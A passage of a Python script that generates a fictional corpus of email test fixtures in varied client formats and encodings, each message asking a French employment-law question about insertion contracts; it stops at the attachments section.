"""Rebuild the fictional .eml corpus of tests/data/eml (deterministic: same bytes every run).

Run: `.venv/bin/python tests/data/eml/make_corpus.py`. People, structures and domains are fictional
(`.example` domains, 01 99 00 / 06 39 98 numbers reserved for fiction). Broken files are broken here
on purpose, so re-running never loses a hand edit.
"""

from __future__ import annotations

import base64
import functools
import hashlib
import io
import quopri
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
DESK = "juridique@federation-iae.example"
CORPUS: dict[str, Callable[[], bytes]] = {}


def corpus_file(name: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Register a builder under its file name."""

    def register(builder: Callable[[], bytes]) -> Callable[[], bytes]:
        CORPUS[name] = builder
        return builder

    return register


# --------------------------------------------------------------------------- encoders


def crlf(text: str | bytes) -> bytes:
    """Return text as bytes with CRLF line ends; '<SP>' spells a meaningful trailing space."""
    data = text.encode("utf-8") if isinstance(text, str) else text
    data = data.replace(b"<SP>\n", b" \n")
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def b64(data: bytes) -> str:
    """Base64 in 76-character lines."""
    return base64.encodebytes(data).decode("ascii")


def qp(text: str, charset: str) -> str:
    """Quoted-printable body in the given charset."""
    return quopri.encodestring(text.encode(charset)).decode("ascii")


def word_b(text: str, charset: str = "UTF-8") -> str:
    """RFC 2047 B-encoded word."""
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode('ascii')}?="


def word_q(text: str, charset: str = "iso-8859-1") -> str:
    """RFC 2047 Q-encoded word."""
    out = []
    for byte in text.encode(charset):
        char = chr(byte)
        if char == " ":
            out.append("_")
        elif char.isascii() and char.isalnum() or char in "!*+-/.,":
            out.append(char)
        else:
            out.append(f"={byte:02X}")
    return f"=?{charset}?Q?{''.join(out)}?="


# --------------------------------------------------------------------------- binary files


def make_pdf(text: str, padding_lines: int = 0) -> bytes:
    """A small valid one-page PDF; padding_lines of comments make it bigger."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    for index in range(padding_lines):
        out += b"% padding " + hashlib.sha256(b"%d" % index).hexdigest().encode() + b"\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return out


def make_png(width: int = 4, height: int = 4, rgb: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    """A tiny valid RGB PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


def make_jpeg() -> bytes:
    """JPEG-shaped bytes (SOI, JFIF header, EOI): enough for type sniffing."""
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\xff\xd9"


def make_zip(members: list[tuple[str, str]]) -> bytes:
    """A deterministic zip (fixed timestamps); a 'mimetype' member is stored first, uncompressed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members:
            info = zipfile.ZipInfo(name, date_time=(2026, 3, 2, 9, 0, 0))
            stored = name == "mimetype"
            info.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


def make_docx(text: str) -> bytes:
    """A minimal Word document."""
    return make_zip(
        [
            (
                "[Content_Types].xml",
                '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats'
                '.org/package/2006/content-types"><Override PartName="/word/document.xml" Content'
                'Type="application/vnd.openxmlformats-officedocument.wordprocessingml.document.ma'
                'in+xml"/></Types>',
            ),
            (
                "word/document.xml",
                '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxml'
                f'formats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{text}</w:t></w:r>'
                "</w:p></w:body></w:document>",
            ),
        ]
    )


def make_xlsx() -> bytes:
    """A minimal spreadsheet (enough members to be recognised)."""
    return make_zip(
        [
            ("[Content_Types].xml", '<?xml version="1.0"?><Types/>'),
            ("xl/workbook.xml", '<?xml version="1.0"?><workbook/>'),
        ]
    )


def make_odt(text: str) -> bytes:
    """A minimal OpenDocument text."""
    return make_zip(
        [
            ("mimetype", "application/vnd.oasis.opendocument.text"),
            (
                "content.xml",
                f'<?xml version="1.0"?><office:document-content>{text}</office:document-content>',
            ),
        ]
    )


def make_exe() -> bytes:
    """Harmless bytes shaped like a Windows executable header (MZ stub + PE signature)."""
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
    return stub + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 16 + b"PE\x00\x00"


# --------------------------------------------------------------------------- 01-08 plain shapes


@corpus_file("01_thunderbird_plain_utf8_flowed.eml")
def thunderbird_plain() -> bytes:
    """Thunderbird, text/plain UTF-8 8bit format=flowed, dashed signature."""
    return crlf(
        """Message-ID: <3f1c2a9e-5b7d-4c1e-9a2b-7e8f0d1c2b3a@ai-tremplin.example>
Date: Mon, 2 Mar 2026 09:14:27 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: fr
To: juridique@federation-iae.example
From: Marie Lefort <marie.lefort@ai-tremplin.example>
Subject: =?UTF-8?Q?Renouvellement_d=27un_CDDI_apr=C3=A8s_un_arr=C3=AAt_maladie?=
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Bonjour,

Une salariée en CDDI (contrat de 4 mois) est en arrêt maladie depuis le<SP>
12 février. Son contrat arrive à échéance le 15 mars. Pouvons-nous le<SP>
renouveler pendant l'arrêt, et la durée de l'arrêt s'impute-t-elle sur<SP>
la durée maximale de 24 mois ?

Merci par avance pour votre retour.

--<SP>
Marie Lefort
Chargée d'accompagnement socioprofessionnel
AI Tremplin (exemple) - 01 99 00 12 34
"""
    )


OUTLOOK_HEADERS = """Received: from PR1P264MB2345.FRAP264.PROD.OUTLOOK.COM ([fe80::1]) by
 PR1P264MB2345.FRAP264.PROD.OUTLOOK.COM ([fe80::1%5]) with mapi id 15.20.7339.035;
 {date}
From: {sender}
To: "juridique@federation-iae.example" <juridique@federation-iae.example>
Subject: {subject}
Thread-Topic: {topic}
Thread-Index: AdpsH1Jk3tQbG2v7QkWQ0m5hV3xYzA==
Date: {date}
Message-ID: <{message_id}@PR1P264MB2345.FRAP264.PROD.OUTLOOK.COM>
Accept-Language: fr-FR, en-US
Content-Language: fr-FR
X-MS-Has-Attach: {has_attach}
X-MS-TNEF-Correlator:
MIME-Version: 1.0
"""


@corpus_file("02_outlook_alternative_iso8859_qp.eml")
def outlook_alternative() -> bytes:
    """Outlook, multipart/alternative in ISO-8859-1 quoted-printable, encoded subject and name."""
    plain = (
        "Bonjour,\n\nNous avons renouvelé le CDDI d'un salarié en parcours. Une nouvelle période "
        "d'essai est-elle possible lors du renouvellement ? Le salarié change de poste (agent de "
        "tri -> agent d'entretien des espaces verts).\n\nBien cordialement,\n\nRenée Lefèvre\n"
        "Directrice\nACI Les Jardins du Val (exemple)\nTél. : 01 99 00 45 67\n"
    )
    html = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">'
        '<style><!-- p.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif;} --></style>'
        '</head><body lang="FR"><div class="WordSection1">\n'
        '<p class="MsoNormal">Bonjour,<o:p></o:p></p>\n'
        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n'
        '<p class="MsoNormal">Nous avons renouvelé le CDDI d\'un salarié en parcours. Une '
        "nouvelle période d'essai est-elle possible lors du renouvellement ? Le salarié change de "
        "poste (agent de tri -&gt; agent d'entretien des espaces verts).<o:p></o:p></p>\n"
        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n'
        '<p class="MsoNormal">Bien cordialement,<o:p></o:p></p>\n'
        '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n'
        '<p class="MsoNormal"><b>Renée Lefèvre</b><br>Directrice<br>ACI Les Jardins du Val '
        "(exemple)<br>Tél. : 01 99 00 45 67<o:p></o:p></p>\n</div></body></html>\n"
    )
    boundary = "_000_PR1P264MB2345A1B2C3D4E5F6A7B8C9D0E1F2A3B4PR1P264MB2345FRAP_"
    head = OUTLOOK_HEADERS.format(
        date="Mon, 2 Mar 2026 10:41:09 +0000",
        sender=f"{word_q('Renée Lefèvre')} <r.lefevre@aci-jardins-du-val.example>",
        subject=word_q("Période d'essai d'un CDDI renouvelé"),
        topic=word_q("Période d'essai d'un CDDI renouvelé"),
        message_id="PR1P264MB2345A1B2C3D4E5F6A7B8C9D0E1F2A3B4",
        has_attach="",
    )
    return crlf(
        head
        + f"""Content-Type: multipart/alternative;
\tboundary="{boundary}"

--{boundary}
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(plain, "iso-8859-1")}
--{boundary}
Content-Type: text/html; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{qp(html, "iso-8859-1")}
--{boundary}--
"""
    )


@corpus_file("03_cp1252_8bit_declared_latin1.eml")
def cp1252_declared_latin1() -> bytes:
    """Old Outlook Express: Windows-1252 bytes (’ € œ …) sent as 8bit under an ISO-8859-1 label."""
    head = """From: "Association Chantier Vert (exemple)" <direction@chantier-vert.example>
To: <juridique@federation-iae.example>
Subject: Retenue sur le solde de tout compte
Date: Tue, 3 Mar 2026 08:02:11 +0100
Message-ID: <000a01da6d2f$4b3c2d10$e1b48730$@chantier-vert.example>
MIME-Version: 1.0
Content-Type: text/plain;
\tcharset="iso-8859-1"
Content-Transfer-Encoding: 8bit
X-Mailer: Microsoft Outlook Express 6.00.2900.5512

"""
    body = (
        "Bonjour,\n\nL’employeur peut-il retenir 150 € sur le solde de tout compte d’un salarié "
        "en CDDI pour du matériel non restitué (une débroussailleuse) ? Notre structure œuvre dans "
        "l’entretien des espaces naturels… « chantier d’insertion ».\n\nMerci\nPaul Girard\n"
    )
    return crlf(head.encode("ascii") + body.encode("cp1252"))


@corpus_file("04_cp1252_8bit_declared_utf8.eml")
def cp1252_declared_utf8() -> bytes:
    """A form-to-mail gateway that labels Windows-1252 bytes as UTF-8."""
    head = """Return-Path: <formulaire@ei-recyclerie-du-port.example>
From: formulaire@ei-recyclerie-du-port.example
Reply-To: "Claire Morin" <claire.morin@ei-recyclerie-du-port.example>
To: juridique@federation-iae.example
Subject: Formulaire de contact : PMSMP et accident
Date: Tue, 3 Mar 2026 11:20:45 +0100
Message-ID: <formmail.20260303112045.8841@ei-recyclerie-du-port.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit
X-Mailer: PHPMailer 5.2.9

"""
    body = (
        "Nom : Claire Morin\nStructure : EI Recyclerie du Port (exemple)\n\nMessage :\n"
        "Une personne en PMSMP s’est blessée à la main hier au dépôt. Qui doit faire la "
        "déclaration d’accident du travail : nous, ou la structure prescriptrice ?\n"
    )
    return crlf(head.encode("ascii") + body.encode("cp1252"))


@corpus_file("05_utf8_8bit_declared_latin1.eml")
def utf8_declared_latin1() -> bytes:
    """UTF-8 bytes under an ISO-8859-1 label (would give 'Ã©' mojibake if trusted)."""
    head = """From: Lucas Bernard <l.bernard@etti-interim-solidaire.example>
To: juridique@federation-iae.example
Subject: Accident de trajet en ETTI
Date: Wed, 4 Mar 2026 07:55:00 +0100
Message-ID: <20260304075500.41a2@etti-interim-solidaire.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: 8bit
User-Agent: Roundcube Webmail/1.6.5

"""
    body = (
        "Bonjour,\n\nUn salarié intérimaire en parcours a été blessé sur le trajet entre deux "
        "missions. Qui fait la déclaration d'accident du travail : l'ETTI ou l'entreprise "
        "utilisatrice ?\n\nCordialement,\nLucas Bernard\n"
    )
    return crlf(head.encode("ascii") + body.encode("utf-8"))


@corpus_file("06_laposte_webmail_base64.eml")
def laposte_base64() -> bytes:
    """La Poste webmail (Open-Xchange shape): multipart/alternative, both parts base64 UTF-8."""
    plain = (
        "Bonjour,\n\nLe Pass IAE d'une salariée arrive à échéance le 20 mars alors que son CDDI "
        "court jusqu'au 30 juin. Une prolongation du Pass est-elle possible, et qui doit la "
        "demander ?\n\nBien à vous,\nNadia Haddad\n"
    )
    html = (
        '<!doctype html><html><head><meta charset="UTF-8"></head><body><div class="default-style">'
        "<p>Bonjour,</p><p>Le Pass IAE d'une salariée arrive à échéance le 20 mars alors que son "
        "CDDI court jusqu'au 30 juin. Une prolongation du Pass est-elle possible, et qui doit la "
        "demander ?</p><p>Bien à vous,<br>Nadia Haddad</p></div></body></html>"
    )
    return crlf(
        f"""Date: Wed, 4 Mar 2026 14:02:33 +0100 (CET)
From: Nadia Haddad <nadia.haddad.aci@laposte.net>
To: juridique@federation-iae.example
Message-ID: <1789423510.120394.1772629353012@wm-ox-front3.laposte.net>
Subject: {word_b("Pass IAE bientôt expiré : peut-on prolonger ?")}
MIME-Version: 1.0
Content-Type: multipart/alternative;
\tboundary="----=_Part_120393_1544807325.1772629353011"
X-Priority: 3
Importance: Normal
X-Mailer: Open-Xchange Mailer v7.10.6-Rev62

------=_Part_120393_1544807325.1772629353011
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: base64

{b64(plain.encode("utf-8"))}
------=_Part_120393_1544807325.1772629353011
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: base64

{b64(html.encode("utf-8"))}
------=_Part_120393_1544807325.1772629353011--
"""
    )


@corpus_file("07_orange_webmail_reply.eml")
def orange_reply() -> bytes:
    """Orange webmail reply: '> Message du ...' quoted block, In-Reply-To a legaldesk id."""
    body = (
        "Bonjour Maître,\n\nMerci pour votre réponse. La visite d'information et de prévention "
        "doit donc avoir lieu dans les 3 mois : est-ce valable aussi pour un CDDI de 4 mois ?\n\n"
        "Bonne journée\nSophie Martin\n\n"
        "> Message du 02/03/26 14:05\n"
        '> De : "Service juridique" <juridique@federation-iae.example>\n'
        "> A : sophie.martin.asso@orange.fr\n"
        "> Copie à : \n"
        "> Objet : [LD-2026-00051] Question sur la visite médicale\n"
        ">\n> Bonjour,\n>\n"
        "> La visite d'information et de prévention (VIP) doit être réalisée dans un délai de "
        "trois mois à compter de la prise effective du poste.\n>\n> Cordialement,\n"
        "> Le service juridique\n"
    )
    return crlf(
        f"""Date: Tue, 3 Mar 2026 09:30:12 +0100 (CET)
From: Sophie Martin <sophie.martin.asso@orange.fr>
Reply-To: Sophie Martin <sophie.martin.asso@orange.fr>
To: Service juridique <juridique@federation-iae.example>
Message-ID: <1443120874.3302.1772526612345.JavaMail.open-xchange@opme11oxm02nd1.francetelecom.fr>
In-Reply-To: <LD-2026-00051.1772456700.7f3a9c@legaldesk.local>
References: <LD-2026-00051.1772380000.0a1b2c@legaldesk.local>
 <LD-2026-00051.1772456700.7f3a9c@legaldesk.local>
Subject: {word_q("RE: [LD-2026-00051] Question sur la visite médicale", "UTF-8")}
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable
X-Priority: 3
Importance: Medium
X-Mailer: Open-Xchange Mailer v7.10.6-Rev45

{qp(body, "utf-8")}"""
    )


@corpus_file("08_rfc2047_subject_and_names.eml")
def encoded_headers() -> bytes:
    """RFC 2047 everywhere: folded subject mixing UTF-8 B and ISO-8859-15 Q words, names, Cc."""
    subject = (
        word_b("Accident du travail pendant une PMSMP – ")
        + "\n "
        + word_q("qui fait la déclaration ?", "iso-8859-15")
    )
    return crlf(
        f"""From: {word_b("Hélène Castaño")} <helene.castano@ai-tremplin.example>
To: {word_q("Service juridique fédération", "utf-8")} <juridique@federation-iae.example>,
 =?UTF-8?Q?Dupont,_Jean_=28d=C3=A9l=C3=A9gu=C3=A9=29?= <jean.dupont@federation-iae.example>
Cc: {word_q("Zoé Ñúñez", "iso-8859-1")} <zoe.nunez@ai-tremplin.example>
Subject: {subject}
Date: Thu, 5 Mar 2026 16:45:00 +0100
Message-ID: <b7e2c1d0-0f3e-4a55-9d61-3c2b1a0f9e8d@ai-tremplin.example>
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

Bonjour,

Une personne accueillie en PMSMP chez un de nos clients s'est coupée en
manipulant un cutter. Qui fait la déclaration d'accident du travail ?

Hélène
"""
    )


# --------------------------------------------------------------------------- 09-13 HTML shapes

OUTLOOK_HTML_HEAD = """<html xmlns:v="urn:schemas-microsoft-com:vml" \
xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" \
xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=Windows-1252">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<title>Sujet interne</title>
<style><!--
/* Font Definitions */
@font-face
\t{font-family:"Cambria Math";
\tpanose-1:2 4 5 3 5 4 6 3 2 4;}
p.MsoNormal, li.MsoNormal, div.MsoNormal
\t{margin:0cm;
\tfont-size:11.0pt;
\tfont-family:"Calibri",sans-serif;}
p.MsoListParagraph
\t{margin-left:36.0pt;}
--></style><!--[if gte mso 9]><xml>
<o:shapedefaults v:ext="edit" spidmax="1026" />
</xml><![endif]--><!--[if gte mso 9]><xml>
<o:shapelayout v:ext="edit">
<o:idmap v:ext="edit" data="1" />
</o:shapelayout></xml><![endif]-->
</head>
<body lang="FR" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
"""


@corpus_file("09_outlook_html_only_reply.eml")
def outlook_html_only() -> bytes:
    """Outlook HTML-only reply: MsoNormal lines, <o:p>, list paragraphs, De/Envoyé/À/Objet block."""
    html = (
        OUTLOOK_HTML_HEAD
        + """<p class="MsoNormal">Bonjour,<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Pour compléter ma question : nos salariés en parcours (CDDI) doivent-ils \
être comptés dans l’effectif pour le seuil de 11 salariés ? Nous avons :<o:p></o:p></p>
<p class="MsoListParagraph" style="text-indent:-18.0pt;mso-list:l0 level1 lfo1">\
<![if !supportLists]><span style="font-family:Symbol">·<span style="font:7.0pt &quot;Times New \
Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span><![endif]>8 permanents<o:p></o:p></p>
<p class="MsoListParagraph" style="text-indent:-18.0pt;mso-list:l0 level1 lfo1">\
<![if !supportLists]><span style="font-family:Symbol">·<span style="font:7.0pt &quot;Times New \
Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span><![endif]>14 salariés en CDDI\
<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Merci,<o:p></o:p></p>
<p class="MsoNormal">Karim Benali<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<div>
<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b>De&nbsp;:</b> Karim Benali &lt;k.benali@ei-recyclerie-du-port.example&gt; \
<br>
<b>Envoyé&nbsp;:</b> lundi 2 mars 2026 10:02<br>
<b>À&nbsp;:</b> juridique@federation-iae.example<br>
<b>Objet&nbsp;:</b> Élections CSE : salariés en insertion électeurs ?<o:p></o:p></p>
</div>
</div>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Bonjour, les salariés en CDDI sont-ils électeurs et éligibles aux élections \
du CSE ?<o:p></o:p></p>
</div>
</body>
</html>
"""
    )
    head = OUTLOOK_HEADERS.format(
        date="Mon, 2 Mar 2026 10:17:40 +0000",
        sender="Karim Benali <k.benali@ei-recyclerie-du-port.example>",
        subject=word_q("RE: Élections CSE : salariés en insertion électeurs ?", "windows-1252"),
        topic=word_q("Élections CSE : salariés en insertion électeurs ?", "windows-1252"),
        message_id="PR1P264MB2345B9C8D7E6F5A4B3C2D1E0F9A8B7C6",
        has_attach="",
    )
    return crlf(
        head
        + """In-Reply-To: <PR1P264MB2345C0FFEE000001@PR1P264MB2345.FRAP264.PROD.OUTLOOK.COM>
Content-Type: text/html; charset="Windows-1252"
Content-Transfer-Encoding: quoted-printable

"""
        + qp(html, "cp1252")
    )


GMAIL_BOUNDARY = "000000000000a1b2c3060f1e2d3c"


@corpus_file("10_gmail_alternative_reply_ref.eml")
def gmail_reply() -> bytes:
    """Gmail reply with [LD-...] in the subject, wrapped attribution, '>' quotes, gmail_quote."""
    plain = (
        "Bonjour,\n\nMerci. Je vous joins l'attestation demandée dès que France Travail nous la "
        "renvoie. Faut-il l'envoyer aussi au prescripteur ?\n\nNadia\n\n"
        "Le lun. 2 mars 2026 à 16:20, Service juridique <juridique@federation-iae.example>\n"
        "a écrit :\n\n"
        "> Bonjour,\n>\n> La prolongation du Pass IAE au-delà de 24 mois relève d'une dérogation\n"
        "> accordée au cas par cas.\n>\n> Cordialement,\n> Le service juridique\n>\n"
    )
    html = (
        '<div dir="ltr"><div>Bonjour,</div><div><br></div><div>Merci. Je vous joins '
        "l'attestation demandée dès que France Travail nous la renvoie. Faut-il l'envoyer aussi "
        'au prescripteur ?</div><div><br></div><div>Nadia</div></div><br><div class="gmail_quote">'
        '<div dir="ltr" class="gmail_attr">Le lun. 2 mars 2026 à 16:20, Service juridique &lt;<a '
        'href="mailto:juridique@federation-iae.example">juridique@federation-iae.example</a>&gt; '
        'a écrit&nbsp;:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;'
        'border-left:1px solid rgb(204,204,204);padding-left:1ex">Bonjour,<br><br>La prolongation'
        " du Pass IAE au-delà de 24 mois relève d'une dérogation accordée au cas par cas.<br><br>"
        "Cordialement,<br>Le service juridique<br></blockquote></div>\n"
    )
    return crlf(
        f"""MIME-Version: 1.0
Date: Tue, 3 Mar 2026 08:05:51 +0100
References: <LD-2026-00042.1772380000.a1b2c3@legaldesk.local>
 <LD-2026-00042.1772464800.d4e5f6@legaldesk.local>
In-Reply-To: <LD-2026-00042.1772464800.d4e5f6@legaldesk.local>
Message-ID: <CAJx7kQ3vZ5pN2rT8wY1uH6gF4dS9aL0kJ7mB3nV5cX2zQ8wE1r@mail.gmail.com>
Subject: Re: [LD-2026-00042] Prolongation du Pass IAE
From: Nadia Haddad <nadia.haddad.aci@gmail.com>
To: Service juridique <juridique@federation-iae.example>
Content-Type: multipart/alternative; boundary="{GMAIL_BOUNDARY}"

--{GMAIL_BOUNDARY}
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(plain, "utf-8")}
--{GMAIL_BOUNDARY}
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(html, "utf-8")}
--{GMAIL_BOUNDARY}--
"""
    )


@corpus_file("11_gmail_html_only_quote_signature.eml")
def gmail_html_only() -> bytes:
    """HTML-only Gmail-shaped reply: gmail_signature and gmail_quote blockquote, no plain part."""
    html = (
        '<div dir="ltr"><div>Bonjour,</div><div><br></div><div>Dans notre cas la salariée a '
        "refusé la visite de reprise. Peut-on engager une procédure disciplinaire ?</div><div><br>"
        '</div><div>Merci</div><br clear="all"><div><br></div><span class="gmail_signature_prefix">'
        '-- </span><br><div dir="ltr" class="gmail_signature" data-smartmail="gmail_signature">'
        '<div dir="ltr"><b>Thomas Petit</b><div>Encadrant technique</div><div>06 39 98 11 22'
        '</div></div></div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">'
        "Le mer. 4 mars 2026 à 11:02, Service juridique &lt;juridique@federation-iae.example&gt; "
        'a écrit&nbsp;:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">'
        '<div dir="ltr">Bonjour,<div><br></div><div>La visite de reprise est obligatoire après un '
        "arrêt de plus de 60 jours.</div></div></blockquote></div>\n"
    )
    return crlf(
        f"""MIME-Version: 1.0
Date: Wed, 4 Mar 2026 15:12:09 +0100
In-Reply-To: <LD-2026-00077.1772618520.99aa00@legaldesk.local>
Message-ID: <CAK9mYt2Hq7uN3rX0pL5sD8fG1jZ4vB6nM2cQ9wE7tR5yU3iO0p@mail.gmail.com>
Subject: Re: [LD-2026-00077] Visite de reprise
From: Thomas Petit <thomas.petit.aci@gmail.com>
To: juridique@federation-iae.example
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp(html, "utf-8")}"""
    )


APPLE_BOUNDARY = "Apple-Mail=_5D3B0C9E-1F2A-4B6C-8D7E-9F0A1B2C3D4E"
APPLE_RELATED = "Apple-Mail=_7A6B5C4D-3E2F-4A1B-9C8D-7E6F5A4B3C2D"


@corpus_file("12_apple_mail_related_inline_image.eml")
def apple_related() -> bytes:
    """Apple Mail: alternative of text/plain and multipart/related (HTML + cid-referenced PNG)."""
    cid = "A1B2C3D4-E5F6-4789-ABCD-0123456789AB"
    plain = (
        "Bonjour,\n\nVoici une photo du panneau d'affichage : le règlement intérieur doit-il "
        "être affiché ainsi, ou un simple accès sur l'intranet suffit-il ?\n\n[image: photo]\n\n"
        "Julie Roux\n"
    )
    html = (
        '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
        '<body style="overflow-wrap: break-word;"><div>Bonjour,</div><div><br></div><div>Voici '
        "une photo du panneau d'affichage : le règlement intérieur doit-il être affiché ainsi, ou "
        "un simple accès sur l'intranet suffit-il ?</div><div><br></div><div><img "
        f'apple-inline="yes" id="1" src="cid:{cid}" alt="photo"></div><div><br></div>'
        "<div>Julie Roux</div></body></html>"
    )
    return crlf(
        f"""From: Julie Roux <julie.roux@ei-recyclerie-du-port.example>
Content-Type: multipart/alternative; boundary="{APPLE_BOUNDARY}"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.500.171.1.1\\))
Subject: =?utf-8?Q?Affichage_du_r=C3=A8glement_int=C3=A9rieur?=
Message-Id: <9C1E6A2B-4D3F-4E5A-8B7C-1D2E3F4A5B6C@ei-recyclerie-du-port.example>
Date: Thu, 5 Mar 2026 10:00:00 +0100
To: juridique@federation-iae.example
X-Mailer: Apple Mail (2.3774.500.171.1.1)

--{APPLE_BOUNDARY}
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

{qp(plain, "utf-8")}
--{APPLE_BOUNDARY}
Content-Type: multipart/related;
\ttype="text/html";
\tboundary="{APPLE_RELATED}"

--{APPLE_RELATED}
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
\tcharset=utf-8

{qp(html, "utf-8")}
--{APPLE_RELATED}
Content-Transfer-Encoding: base64
Content-Disposition: inline;
\tfilename=photo.png
Content-Type: image/png;
\tx-unix-mode=0644;
\tname="photo.png"
Content-Id: <{cid}>

{b64(make_png())}
--{APPLE_RELATED}--

--{APPLE_BOUNDARY}--
"""
    )


@corpus_file("13_apple_mail_mixed_text_pdf_text.eml")
def apple_mixed() -> bytes:
    """Apple Mail splitting the text around an inline PDF: plain, application/pdf, plain."""
    second_part = (
        "Est-il conforme ? Faut-il prévenir la DDETS de la modification de la durée du "
        "travail ?\n\nJulie\n"
    )
    return crlf(
        f"""From: Julie Roux <julie.roux@ei-recyclerie-du-port.example>
Content-Type: multipart/mixed; boundary="{APPLE_BOUNDARY}"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.500.171.1.1\\))
Subject: Avenant au contrat de travail
Message-Id: <0D1E2F3A-4B5C-4D6E-8F70-8192A3B4C5D6@ei-recyclerie-du-port.example>
Date: Thu, 5 Mar 2026 11:30:00 +0100
To: juridique@federation-iae.example
X-Mailer: Apple Mail (2.3774.500.171.1.1)

--{APPLE_BOUNDARY}
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

Bonjour,

Voici le projet d'avenant pour passer un salarie de 26 a 30 heures :

--{APPLE_BOUNDARY}
Content-Disposition: inline;
\tfilename=avenant-30h.pdf
Content-Type: application/pdf;
\tx-unix-mode=0644;
\tname="avenant-30h.pdf"
Content-Transfer-Encoding: base64

{b64(make_pdf("Avenant au contrat de travail - 30 heures"))}
--{APPLE_BOUNDARY}
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain;
\tcharset=utf-8

{qp(second_part, "utf-8")}
--{APPLE_BOUNDARY}--
"""
    )


# --------------------------------------------------------------------------- 14-17 attachments

